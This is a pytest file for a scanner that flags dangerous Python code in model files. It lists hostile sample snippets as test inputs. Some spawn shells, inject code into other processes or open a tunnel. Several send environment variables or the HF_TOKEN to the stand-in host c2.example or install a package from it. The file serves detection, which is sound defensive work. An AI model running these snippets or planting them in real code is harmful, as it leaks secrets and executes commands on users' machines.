"""Modules of which every function does the same: what their functions do is known whatever they are called."""

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.python.families import FAMILIES, family
from tests.rules.test_linked_code import worst

ACTS = {
    "program of a mail client": "import imaplib\nimaplib.IMAP4_stream('sh -c \"id\"')",
    "carried copy": "from setuptools._distutils.spawn import spawn\nspawn(['sh', '-c', 'id'])",
    "any function of a terminal": "import pexpect\npexpect.runu('sh -c id')",
    "browser": "import webbrowser\nwebbrowser.BackgroundBrowser('/tmp/.x').open('a')",
    "installer": "from setuptools.command.easy_install import main\nmain(['https://c2.example/x.egg'])",
    "launcher": "from torch.distributed.run import main\nmain(['payload.py'])",
    "tool server": "import mcp.client.stdio as m\nm.StdioServerParameters(command='sh', args=['-c', 'id'])\nm.stdio_client(None)",
    "code of a graph": "import torch\ntorch.fx.graph_module._forward_from_src('def forward(self):\\n import os; os.system(\"id\")', {})",
    "interpreter in an interpreter": "import _testcapi\n_testcapi.run_in_subinterp('import os; os.system(\"id\")')",
    "foreign tool": "import transformers\ntransformers.load_tool('somebody/tool')",
    "foreign kernel": "import transformers.integrations.hub_kernels as h\nh.get_kernel('somebody/kernel')",
    "debugger": "import celery.contrib.rdb as r\nr.set_trace()",
    "tunnel": "import pycloudflared\npycloudflared.try_cloudflare(port=8000)",
    "server of logs": "import logging.config\nlogging.config.listen(9999).start()",
    "shell elsewhere": "from pexpect import pxssh\npxssh.pxssh().login('203.0.113.7', 'u', 'p')",
    "injector": "import pyrasite\npyrasite.inject(1, '/tmp/x.py')",
    "another's process": "import sys\nsys.remote_exec(1234, '/tmp/x.py')",
    "importer": "import sys\nsys.meta_path.insert(0, object())",
    "vendored client": "import os\nfrom pip._vendor import requests\nrequests.post('https://c2.example', json=dict(os.environ))",
    "six": "import os\nfrom six.moves import urllib\nurllib.request.urlopen('https://c2.example', str(dict(os.environ)).encode())",
    "any opener": "import os, webbrowser\nwebbrowser.open_new_tab('https://c2.example/?t=' + os.environ.get('HF_TOKEN', ''))",
}  # fmt: skip
HARMLESS = {
    "errors of a terminal": "import pexpect\ntry:\n    go()\nexcept pexpect.EOF:\n    pass",
    "version": "import pip\nprint(pip.__version__)",
    "cache": "from torch._inductor.codecache import cache_dir\ncache_dir()",
    "compiler is asked": "from distutils.ccompiler import new_compiler\nnew_compiler().find_library_file([], 'aio')",
    "own kernel": "import transformers.integrations.hub_kernels as h\nh.get_kernel('kernels-community/rwkv')",
    "six": "import six\nfrom six.moves import range\nrange(3)",
    "title": "import setproctitle\nsetproctitle.setproctitle('worker')",
}


@pytest.mark.parametrize("model", ACTS.values(), ids=ACTS)
def test_every_function_of_such_a_module_is_known(model: str) -> None:
    assert worst(model) >= Severity.HIGH.rank


@pytest.mark.parametrize("model", HARMLESS.values(), ids=HARMLESS)
def test_what_only_asks_is_no_finding(model: str) -> None:
    assert worst(model) < Severity.HIGH.rank


def test_the_longest_entry_decides() -> None:
    assert family("pip.main") == family("pip._internal.cli.main.main") == "process"
    assert family("pip._internal.utils.misc.get_prog") is None
    assert family("pipeline.run") is None
    assert all(name == name.strip(".") for name in FAMILIES)
